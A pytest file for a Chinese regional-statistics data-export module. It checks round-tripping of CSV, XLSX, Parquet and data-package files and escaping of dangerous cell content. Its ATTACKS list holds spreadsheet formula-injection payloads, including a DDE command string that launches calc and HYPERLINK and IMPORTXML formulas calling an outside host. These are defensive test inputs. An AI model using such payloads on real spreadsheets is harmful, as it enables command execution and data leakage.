"""Files: opened again with other programs, they hold what went in; nothing in them runs, nothing missing becomes zero."""

from __future__ import annotations

import io
import json
import re
import subprocess
import sys
import zipfile
from pathlib import Path

import frictionless
import openpyxl
import pandas as pd
import pytest

from data import queries, schema, store, terms
from pages.parts import downloads, format, statements, takeaway, views, workshop
from pages.parts.playlist import View
from tests import pages_build

ROOT = Path(__file__).resolve().parent.parent
TITLES = {"name": "指标", "value": "数值", "year": "年份", "yes": "首选"}
#: What spreadsheets have been made to run: formulas, links, commands, with what stands before them.
ATTACKS = [
    "=1+1", "=cmd|'/C calc'!A0", "+SUM(A1)", "-2+3+cmd|' /C calc'!A0", "@SUM(1)", "\t=1+1", "\r=1+1", "\n=1+1",
    '=HYPERLINK("http://example.org?"&A1,"看")', "＝1+1", "＋1+1", "－1+1", "＠SUM(1)", '=IMPORTXML("http://example.org","//a")',
]  # fmt: skip


def frame(*names: object) -> pd.DataFrame:
    return pd.DataFrame(
        {
            "name": pd.Series(names, dtype=object),
            "value": [7.0, None, 0.0, -3.25][: len(names)] + [1.5] * (len(names) - 4),
            "year": pd.array([2024] * len(names), dtype="Int32"),
            "yes": [True, False, True, False][: len(names)] + [True] * (len(names) - 4),
        }
    )


def sheets(content: bytes) -> dict[str, list[list]]:
    book = openpyxl.load_workbook(io.BytesIO(content))
    return {sheet.title: [[cell.value for cell in row] for row in sheet.iter_rows()] for sheet in book}


def package(content: bytes, folder: Path) -> tuple[dict, frictionless.Package]:
    path = folder / "made.zip"
    path.write_bytes(content)
    with zipfile.ZipFile(path) as archive:
        described = json.loads(archive.read("datapackage.json"))
    return described, frictionless.Package(str(path))


PLAIN = frame("地区生产总值", None, "粮食产量\n（万吨）", '带"引号"，和逗号')


# ---------------------------------------------------------------- what goes in comes out
def test_csv_holds_the_rows_under_chinese_headings():
    content = downloads.csv(PLAIN, TITLES)
    assert content.startswith(b"\xef\xbb\xbf")
    back = pd.read_csv(io.BytesIO(content), encoding="utf-8-sig", dtype=str, keep_default_na=False)
    assert list(back.columns) == ["指标", "数值", "年份", "首选"]
    assert back["指标"].tolist() == ["地区生产总值", "", "粮食产量\n（万吨）", '带"引号"，和逗号']
    assert back["数值"].tolist() == ["7", "", "0", "-3.25"]
    assert back["年份"].tolist() == ["2024"] * 4


def test_xlsx_holds_numbers_as_numbers_and_missing_as_empty():
    content = downloads.xlsx([("内容", "试")], [downloads.Page("数据", PLAIN, TITLES)])
    rows = sheets(content)["数据"]
    assert rows[0] == ["指标", "数值", "年份", "首选"]
    assert [row[1] for row in rows[1:]] == [7, None, 0, -3.25]
    assert [row[0] for row in rows[1:]] == ["地区生产总值", None, "粮食产量\n（万吨）", '带"引号"，和逗号']
    sheet = openpyxl.load_workbook(io.BytesIO(content))["数据"]
    assert (sheet.freeze_panes, sheet.auto_filter.ref) == ("A2", "A1:D5")
    assert all(sheet.cell(r, 2).data_type == "n" for r in (2, 4, 5))


def test_parquet_keeps_names_types_and_missing():
    back = pd.read_parquet(io.BytesIO(downloads.parquet(PLAIN, TITLES)))
    wanted = PLAIN[list(TITLES)].assign(name=PLAIN["name"].astype("str"))
    pd.testing.assert_frame_equal(back, wanted, check_dtype=False)
    assert back["year"].dtype.kind == "i" and back["yes"].dtype == bool


def test_package_is_valid_and_holds_the_rows(tmp_path):
    content = downloads.package(
        PLAIN.assign(kind=["level", "growth", "level", "level"]),
        TITLES | {"kind": "总量或增速"},
        title="试", description="试一试", version="abc", created="2025-02-01T04:05:06+00:00",
        sources=[{"title": "某报告（文件 a.txt）"}, {"title": "公报", "path": "https://example.org/a?b=1&c=2"}],
        labels={"kind": {"level": "总量", "growth": "增速"}}, notes={"value": "单位：亿元"},
    )  # fmt: skip
    described, found = package(content, tmp_path)
    report = frictionless.validate(str(tmp_path / "made.zip"))
    assert report.valid, report.flatten(["message"])
    rows = found.resources[0].read_rows()
    assert [row["value"] and float(row["value"]) for row in rows] == [7, None, 0, -3.25]
    assert [row["yes"] for row in rows] == [True, False, True, False]
    fields = {field["name"]: field for field in described["resources"][0]["schema"]["fields"]}
    assert {name: field["type"] for name, field in fields.items()} == {
        "name": "string", "value": "number", "year": "integer", "yes": "boolean", "kind": "string",
    }  # fmt: skip
    assert fields["value"]["title"] == "数值" and fields["value"]["description"] == "单位：亿元"
    assert fields["kind"]["categories"][0] == {"value": "level", "label": "总量"}
    assert described["$schema"].startswith("https://datapackage.org/profiles/2")
    assert not described.get("licenses")


def test_a_package_with_a_wrong_value_would_be_refused(tmp_path):
    """The check above can fail: a value outside the enumeration does not pass."""
    content = downloads.package(
        PLAIN.assign(kind="other"), {"kind": "类"}, title="试", description="", version="a",
        created="2025-02-01T04:05:06Z", labels={"kind": {"level": "总量"}},
    )  # fmt: skip
    package(content, tmp_path)
    assert not frictionless.validate(str(tmp_path / "made.zip")).valid


# ---------------------------------------------------------------- formulas
@pytest.mark.parametrize("attack", ATTACKS)
def test_no_cell_of_a_csv_is_a_formula(attack):
    text = downloads.csv(frame(attack), TITLES | {"name": attack}).decode("utf-8-sig")
    back = pd.read_csv(io.StringIO(text, newline=""), dtype=str)
    assert back.columns[0] == "'" + attack and back.iloc[0, 0] == "'" + attack


@pytest.mark.parametrize("attack", ATTACKS)
def test_no_cell_of_an_xlsx_is_a_formula_or_a_link(attack):
    content = downloads.xlsx([("内容", attack)], [downloads.Page("数据", frame(attack), TITLES | {"name": attack})])
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        written = "".join(archive.read(name).decode("utf-8") for name in archive.namelist() if "sheet" in name)
    assert "<f>" not in written and "<hyperlink" not in written
    for sheet in openpyxl.load_workbook(io.BytesIO(content)):
        assert not [
            cell for row in sheet.iter_rows() for cell in row if cell.data_type == "f" and isinstance(cell, str)
        ]


@pytest.mark.parametrize("attack", ATTACKS)
def test_no_cell_of_a_package_is_a_formula(attack, tmp_path):
    given = frame(attack).rename(columns={"yes": attack})
    content = downloads.package(
        given,
        {"name": attack, attack: attack},
        title=attack,
        description=attack,
        version="a",
        created="2025-02-01T04:05:06Z",
    )
    _, found = package(content, tmp_path)
    assert frictionless.validate(str(tmp_path / "made.zip")).valid
    assert found.resources[0].read_rows()[0].to_dict() == {"name": "'" + attack, "'" + attack: True}


@pytest.mark.parametrize("text", ["-3.5%", "+5.5", "-12", "-1,234.5", "地区生产总值", "1.94:1", "−3%", "'"])
def test_what_is_no_formula_stays_as_it_is(text):
    assert downloads.harmless(text) == text


# ---------------------------------------------------------------- text that files cannot hold
NASTY = "前\x00\x01\x08\x0b\x1f后\ud800\uffff尾 _x0041_ <b>&amp;</b> ]]>"


def test_characters_that_no_file_can_hold_are_replaced_and_the_rest_kept(tmp_path):
    kept = "前�����后��尾 _x0041_ <b>&amp;</b> ]]>"
    assert pd.read_csv(io.BytesIO(downloads.csv(frame(NASTY), TITLES)), encoding="utf-8-sig")["指标"][0] == kept
    content = downloads.xlsx([("内容", NASTY)], [downloads.Page("数据", frame(NASTY), TITLES)])
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        for name in archive.namelist():
            if name.endswith(".xml"):
                assert not re.search("[\x00-\x08\x0b\x0c\x0e-\x1f]", archive.read(name).decode("utf-8"))
    # Excel reads _x0041_ as A, so the file says _x005F_ for its first sign; openpyxl leaves that as it is written
    assert sheets(content)["数据"][1][0].replace("_x005F_", "_") == kept
    _, found = package(
        downloads.package(
            frame(NASTY), TITLES, title="试", description=NASTY, version="a", created="2025-02-01T04:05:06Z"
        ),
        tmp_path,
    )
    assert found.resources[0].read_rows()[0]["name"] == kept


def test_a_text_too_long_for_a_cell_says_that_it_is_cut():
    rows = sheets(downloads.xlsx([("内容", "")], [downloads.Page("数据", frame("长" * 40_000), TITLES)]))["数据"]
    assert len(rows[1][0]) == downloads.MOST_CHARACTERS and rows[1][0].endswith(downloads.CUT)


# ---------------------------------------------------------------- size and names
def test_more_rows_than_a_sheet_holds_are_refused_in_words():
    assert not downloads.too_large(1_048_575) and "1,048,576" in downloads.too_large(1_048_576)
    many = pd.DataFrame({"value": pd.Series([0.0]).repeat(1_048_576)})
    with pytest.raises(downloads.TooLargeError, match="缩小筛选范围"):
        downloads.xlsx([("内容", "")], [downloads.Page("数据", many, {"value": "数值"})])


@pytest.mark.parametrize(
    ("parts", "name"),
    [
        (("地区生产总值", "綦江-江津", "2024"), "地区生产总值_綦江-江津_2024_2026-11-21.xlsx"),
        (('a/b\\c:d*e?f"g<h>i|j', "..", "2024 "), "abcdefghij_2024_2026-11-21.xlsx"),
        (("\u202egnp.exe\x00", "", ""), "gnp.exe_2026-11-21.xlsx"),
        (("CON", "", ""), "CON_2026-11-21.xlsx"),
    ],
)
def test_file_names_are_safe_on_windows(parts, name):
    assert downloads.file_name(*parts, "2026-11-21", "xlsx") == name


def test_file_names_stay_short():
    assert len(downloads.file_name("长" * 300, "区" * 300, "年" * 300, "2026-11-21", "parquet")) <= 120


# ---------------------------------------------------------------- the facts of the reports
@pytest.fixture(scope="module")
def facts(real) -> pd.DataFrame:
    return queries.statements(real.connection)


def test_every_column_has_a_heading_and_every_value_a_word(facts):
    assert set(schema.TABLES["facts"].to_schema().columns) <= set(terms.COLUMNS)
    assert len(set(statements.titles(statements.CHOICE).values())) == len(statements.CHOICE)
    assert set(statements.FIRST) <= set(statements.CHOICE)
    for column, words in {
        "measure": terms.MEASURES, "status": terms.STATUSES, "origin": terms.ORIGINS, "period": terms.PERIODS,
        "comparator": terms.COMPARATORS,
    }.items():  # fmt: skip
        assert set(words) == set(statements.LABELS[column])
    assert (
        statements.worded(facts)[["measure", "status", "period", "comparator", "origin", "preferred"]]
        .notna()
        .all()
        .all()
    )


def test_csv_rows_are_the_rows_of_the_query(facts):
    back = pd.read_csv(
        io.BytesIO(statements.text(facts, statements.CHOICE, None)),
        encoding="utf-8-sig",
        dtype={"编号": str, "行": "Int64"},
    )
    assert back["编号"].tolist() == facts["fact_id"].tolist()
    pd.testing.assert_series_equal(back["数值"], facts["value"], check_names=False)
    assert back["原句"].isna().tolist() == facts["quote"].isna().tolist()
    said = [quote.removeprefix("'") for quote in back["原句"].dropna()]
    assert said == facts["quote"].dropna().tolist()


def test_parquet_rows_are_the_rows_of_the_query(facts):
    back = pd.read_parquet(io.BytesIO(statements.table(facts, statements.CHOICE, None)))
    names = [name for name in statements.CHOICE if name not in ("printed", "derived_from")]
    pd.testing.assert_frame_equal(back[names], facts[names], check_dtype=False)


def test_package_rows_are_the_rows_of_the_query(facts, real, tmp_path):
    reports = real.ask("reports")
    content = statements.package(
        facts, statements.CHOICE, None, "全部", "abc", "2025-02-01T04:05:06+00:00", statements.sources(facts, reports)
    )
    described, found = package(content, tmp_path)
    report = frictionless.validate(str(tmp_path / "made.zip"))
    assert report.valid, report.flatten(["message"])[:3]
    rows = found.resources[0].read_rows()
    assert [row["fact_id"] for row in rows] == facts["fact_id"].tolist()
    assert [row["value"] is None for row in rows] == facts["value"].isna().tolist()
    assert [row["quote"] for row in rows if row["quote"]] == [
        downloads.harmless(quote) for quote in facts["quote"].dropna()
    ]
    titles = {each["title"] for each in described["sources"]}
    assert all(f"{row['title']}（文件 {row['file']}）" in titles for row in reports)
    assert {url for url in facts["source_url"].dropna()} == {
        each["path"] for each in described["sources"] if "path" in each
    }


def test_workbook_has_the_four_sheets_and_every_sentence(facts, real):
    wanted = facts[(facts["district"] == "江津") & (facts["indicator_id"] == "gdp") & (facts["year"] == 2024)]
    documents = statements.sources(wanted, real.ask("reports"))
    content = statements.workbook(
        wanted, statements.FIRST, None, statements.about("江津", "共几条", "abcdef", "2025", "2026-11-21", documents),
        queries.catalogue(real.connection), queries.findings(real.connection),
    )  # fmt: skip
    found = sheets(content)
    assert list(found) == ["说明", "数据", "来源与原句", "口径"]
    data, quotes, defined = (
        [dict(zip(page[0], row, strict=True)) for row in page[1:]] for page in list(found.values())[1:]
    )
    assert [row["编号"] for row in data] == [row["编号"] for row in quotes] == wanted["fact_id"].tolist()
    # 江津2024年报告第20—22行：1.地区生产总值（GDP）增速 7% 4.1%
    table = next(row for row in quotes if row["来源"] == "报告表格" and row["完成或目标"] == "完成情况")
    assert (table["数值"], table["单位"], table["行"], table["原文数值"]) == (4.1, "%", 20, "4.1%")
    assert table["原句"] == "1.地区生产总值（GDP）增速\n\t7%\n\t4.1%"
    assert table["报告"] == "关于重庆市江津区2024年国民经济和社会发展计划执行情况及2025年计划草案的报告"
    assert [row["指标"] for row in defined] == ["地区生产总值"]
    assert (defined[0]["总量单位"], defined[0]["增速口径"]) == ("亿元", "实际（不变价）")
    said = dict(found["说明"])
    assert said["筛选"] == "江津" and said["数据版本"] == "abcdef" and "不用0代替" in said["空单元格"]


def test_findings_stand_beside_their_indicator(facts, real):
    # 綦江2024年报告第277行说500公里，第312行说300公里
    page = statements.definitions(facts, queries.catalogue(real.connection), queries.findings(real.connection))
    said = page.set_index("indicator")["message"]["农村公路安防工程"]
    assert "500公里" in said and "300公里" in said and said.startswith("说法不一")
    assert page.set_index("indicator")["definition"]["农村公路安防工程"].startswith("不在指标目录中")


def test_a_wide_file_says_which_numbers_no_report_states(real):
    wide = statements.wide_marked(queries.wide_parts(real.connection, indicators=["gdp"], places=["500110"]))
    level = wide[(wide["measure"] == "level") & (wide["status"] == "actual")].iloc[0]
    assert level["綦江 2022"] == 770.79 and level["marks"] == "綦江 2022补充，含万盛（推断）"  # 506.91 of 2021 is the report's
    text = statements.text(None, (), wide).decode("utf-8-sig")
    assert "补充、推算、预计和带比较词的数" in text.splitlines()[0] and "綦江 2022补充，含万盛（推断）" in text


def test_averages_that_are_drawn_are_in_the_data_and_the_evidence(real, monkeypatch):
    monkeypatch.setenv("PLANBOARD_DATA", str(real.folder))
    made = views.sheet(store.build_id(real.folder), View("trend", (("district", "綦江"), ("indicator", "地区生产总值"))))
    data = takeaway.rows(made)
    average = data[data["measure"] == "2021—2025年年均增速"].iloc[0]
    assert average["actual"] == 4.9 and pd.isna(average["gap"])
    assert any("地区生产总值年均增长4.9%" in line and "第14行" in line for line in takeaway.said(made))


def test_wide_files_hold_the_same_numbers(real, tmp_path):
    wide = queries.wide(real.connection, indicators=["gdp"])
    rows = queries.statements(real.connection, indicators=["gdp"], preferred=True)
    numbers = sorted(rows["value"].dropna())
    back = pd.read_csv(io.BytesIO(statements.text(None, (), wide)), encoding="utf-8-sig")
    years = [name for name in back if re.search(r" \d{4}$", name)]
    assert sorted(back[years].stack().dropna()) == numbers
    parquet = pd.read_parquet(io.BytesIO(statements.table(None, (), wide)))
    assert sorted(parquet[years].stack().dropna()) == numbers
    package(statements.package(rows, (), wide, "试", "a", "2025-02-01T04:05:06Z", []), tmp_path)
    assert frictionless.validate(str(tmp_path / "made.zip")).valid


@pytest.mark.parametrize(
    ("row", "words"),
    [
        ((-3.0, 3.0, "%", "%", "eq", None, None, None, "table"), "−3%"),
        ((36.0, 3.6, "万吨", "亿公斤", "eq", None, None, None, "prose"), "3.6亿公斤"),
        ((325.0, 325.0, "天", "天", "ge", None, None, None, "table"), "≥325天"),
        ((0.0, 0.0, "%", "%", "eq", None, None, None, "prose"), "0%"),
        ((3.0, 3.0, "%", "%", "ge", None, 3.0, 5.0, "prose"), "3～5%"),
        ((None, None, None, None, "eq", "与经济增长同步", None, None, "table"), "与经济增长同步"),
        ((479.04, None, "亿元", None, "approx", None, 478.0, 480.0, "derived"), None),  # nobody printed it
    ],
)
def test_a_value_is_printed_as_its_source_prints_it(row, words):
    assert statements.printed(row) == words


def test_a_report_is_named_in_the_sources_only_when_used(facts, real):
    mine = statements.sources(facts[facts["district"] == "南岸"], real.ask("reports"))
    assert [each["title"] for each in mine if "path" not in each] == [
        "重庆市南岸区2024年国民经济和社会发展计划执行情况及2025年计划草案的报告（文件 nanan-2024-annual-plan-report.txt）"
    ]
    assert format.STATUSES["actual"] == "完成情况"


# ---------------------------------------------------------------- a process of its own
def test_a_large_file_is_made_by_a_process_of_its_own(facts, monkeypatch):
    ran = []
    real_run = subprocess.run
    monkeypatch.setattr(subprocess, "run", lambda *args, **named: ran.append(args) or real_run(*args, **named))
    many = pd.concat([facts.assign(fact_id=facts["fact_id"] + f"_{n}") for n in range(71)], ignore_index=True)
    assert len(many) > 100_000
    content = workshop.make(statements.text, rows=len(many), facts=many, names=statements.FIRST, wide=None)
    back = pd.read_csv(io.BytesIO(content), encoding="utf-8-sig", usecols=["编号", "数值"])
    assert back["编号"].tolist() == many["fact_id"].tolist()
    assert back["数值"].isna().sum() == many["value"].isna().sum()
    assert ran and ran[0][0][0] == sys.executable


def test_a_file_that_cannot_be_made_says_why():
    with pytest.raises(workshop.NotMadeError, match="value"):
        workshop.make(statements.text, rows=10_000, facts=pd.DataFrame({"a": [1]}), names=("value",), wide=None)


def test_100_000_rows_go_into_a_workbook():
    many = pd.concat([PLAIN] * 25_000, ignore_index=True)
    content = downloads.xlsx([("内容", "试")], [downloads.Page("数据", many, TITLES)])
    book = openpyxl.load_workbook(io.BytesIO(content), read_only=True)
    assert sum(1 for _ in book["数据"].iter_rows(values_only=True)) == 100_001


def test_the_process_runs_from_the_root():
    done = subprocess.run(
        [sys.executable, "-c", "import pages.parts.workshop, sys; print('streamlit' in sys.modules)"],
        cwd=ROOT, capture_output=True, text=True, check=True,
    )  # fmt: skip
    assert done.stdout.strip() == "False"


def test_a_bound_of_a_fall_is_one_of_its_size_in_files_too(tmp_path):
    """下降3.5%以上 beside 不低于-3%, which has its own minus, and 增长3%以上."""
    told = [("綦江", "gdp", "growth", "target", 2022 + n, value, "%", "ge", None, "prose") for n, value in enumerate((-3.5, -3, 3))]
    folder = pages_build.write(tmp_path / "parquet", told)
    facts = pd.read_parquet(folder / "facts.parquet").assign(value_reported=[3.5, -3.0, 3.0])
    schema.typed("facts", facts).to_parquet(folder / "facts.parquet", index=False)
    pages_build.database(folder)
    wide = statements.wide_marked(queries.wide_parts(store.connect(folder).cursor()))
    assert wide["marks"].tolist() == ["綦江 2022≤；綦江 2023≥；綦江 2024≥"]
    assert statements.printed((-3.5, 3.5, "%", "%", "ge", None, None, None, "prose")) == "≤−3.5%"
    assert statements.printed((-3, -3, "%", "%", "ge", None, None, None, "prose")) == "≥−3%"
